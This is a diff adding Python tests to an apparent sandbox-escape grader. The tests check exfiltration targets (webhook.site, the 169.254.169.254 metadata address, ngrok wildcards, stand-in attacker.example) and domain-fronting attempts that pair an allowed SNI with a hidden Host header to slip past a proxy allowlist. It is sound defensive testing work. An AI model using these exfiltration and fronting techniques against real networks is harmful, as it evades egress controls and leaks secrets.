@@ -188,3 +188,77 @@ def test_every_attack_has_a_fix_that_names_a_policy_key(pid: str) -> None:
 def test_predictions_of_the_plain_container() -> None:
     access = baseline_access(load_world())
     assert all(p.predict(p, access)[0] for p in PROBES if p.kind == "attack" and p.id != "read-etc-secrets")
+
+
+# --- names the world does not know, and host identity ------------------------------------------------
+
+
+def _ctx(allowed: tuple[str, ...], token: str = "t0k3n") -> OrderContext:
+    world = load_world()
+    return OrderContext(Markers(token, world.attacker.name), "10.0.0.9", TCP_PORT, HOST_PORT, (), world.host_names,
+                        tuple(s.path for s in world.loot), allowed=allowed,
+                        uploads=tuple(h.name for h in world.hosts if h.uploads and not h.attacker))
+
+
+def test_every_allowed_name_and_a_fresh_name_under_every_allowed_wildcard_is_an_exfiltration_target() -> None:
+    ctx = _ctx(("pypi.org", "webhook.site", "169.254.169.254", "*.ngrok.io"))
+    orders = {o["id"]: o["steps"] for o in orders_for(("exfil-via-allowed-domain", "exfil-secret"), ctx)}
+    upload_hosts = {urlsplit(s["url"]).hostname for s in orders["exfil-via-allowed-domain"]}
+    assert {"webhook.site", "169.254.169.254", "t0k3nup.ngrok.io", "pypi.org"} <= upload_hosts
+    for step in orders["exfil-secret"]:
+        stolen_to = {urlsplit(u).hostname for u in step["urls"]}
+        assert {"webhook.site", "169.254.169.254"} <= stolen_to and any(h.endswith(".ngrok.io") for h in stolen_to)
+
+
+def test_fronting_orders_ask_the_proxy_about_each_target_then_name_it_inside_every_allowed_hosts_tunnel() -> None:
+    steps = orders_for(("net-domain-fronting",), _ctx(("pypi.org", "*.github.com")))[0]["steps"]
+    asked = [s["connect"] for s in steps if not s["attempts"]]
+    assert {"attacker.example", "t0k3nfront.attacker.example", "upload.pypi.org", "gist.github.com"} <= set(asked)
+    fronts = {s["connect"]: s["attempts"] for s in steps if s["attempts"]}
+    assert {"pypi.org", "gist.github.com", "codeload.github.com", "t0k3nfr.github.com"} <= set(fronts)
+    assert {"sni": "attacker.example", "host": "attacker.example"} in fronts["pypi.org"]
+    assert {"sni": "pypi.org", "host": "upload.pypi.org"} in fronts["pypi.org"]  # classic fronting: the SNI is the allowed host
+
+
+def _front_evidence(http: list[dict[str, Any]], proxy: list[dict[str, Any]], token: str = "t0k3n") -> Evidence:
+    records = parse_runner_output("\n".join(json.dumps(r) for r in [
+        {"probe": "net-domain-fronting", "step": "front", "ok": False, "target": "pypi.org>attacker.example>attacker.example",
+         "detail": "CONNECT pypi.org:443, then SNI attacker.example and Host attacker.example: SSLError: unrecognized name"},
+        {"probe": "net-domain-fronting", "step": "front", "ok": False, "target": "pypi.org>pypi.org>upload.pypi.org",
+         "detail": "CONNECT pypi.org:443, then SNI pypi.org and Host upload.pypi.org: HTTP/1.1 421 Misdirected Request"},
+        {"probe": "net-domain-fronting", "step": "done", "ok": True},
+    ]))
+    return Evidence(token=token, canaries={}, records=records, before={}, after={}, network="proxy",
+                    http=tuple(http), proxy=tuple(proxy))
+
+
+ALLOWED_PYPI = {"method": "CONNECT", "host": "pypi.org", "port": 443, "decision": "allow", "reason": 'matches allowed entry "pypi.org"'}
+DENIED_ATTACKER = {"method": "CONNECT", "host": "attacker.example", "port": 443, "decision": "deny", "reason": "not in the allowed list"}
+
+
+def test_fronting_is_blocked_when_the_servers_refused_every_other_name() -> None:
+    refused = {"host": "pypi.org", "misdirected": "upload.pypi.org", "stage": "http", "method": "POST", "path": "/front/t0k3n"}
+    outcome, _, evidence = probe("net-domain-fronting").judge(probe("net-domain-fronting"), _front_evidence([refused], [ALLOWED_PYPI, DENIED_ATTACKER]), load_world())
+    assert outcome == "blocked"
+    assert "tunnels to pypi.org" in evidence[0] and "refused 1 outright (421 Misdirected Request)" in evidence[0]
+
+
+def test_fronting_succeeds_only_where_data_reached_a_host_the_proxy_did_not_let_through() -> None:
+    p, world = probe("net-domain-fronting"), load_world()
+    smuggled = {"host": "attacker.example", "via": "pypi.org", "method": "POST", "path": "/front/t0k3n", "body": "fronted t0k3n"}
+    outcome, _, evidence = p.judge(p, _front_evidence([smuggled], [ALLOWED_PYPI, DENIED_ATTACKER]), world)
+    assert outcome == "succeeded" and evidence == ("attacker.example received POST /front/t0k3n inside the tunnel the proxy opened to pypi.org",)
+    let_through = {**ALLOWED_PYPI, "host": "attacker.example"}
+    assert p.judge(p, _front_evidence([smuggled], [ALLOWED_PYPI, let_through]), world)[0] == "blocked"  # allowed anyway
+    other_run = {**smuggled, "path": "/front/ffffff"}
+    assert p.judge(p, _front_evidence([other_run], [ALLOWED_PYPI]), world)[0] == "blocked"
+
+
+def test_the_attacker_reads_what_reaches_a_name_the_world_does_not_know() -> None:
+    from grader.evidence import attacker_reads
+
+    world = load_world()
+    for name in ("webhook.site", "localhost", "169.254.169.254", "x.y.attacker.example", "gist.github.com"):
+        assert attacker_reads(world, name), name
+    for name in ("pypi.org", "abc.github.com", "heartbeat.invalid"):
+        assert not attacker_reads(world, name), name
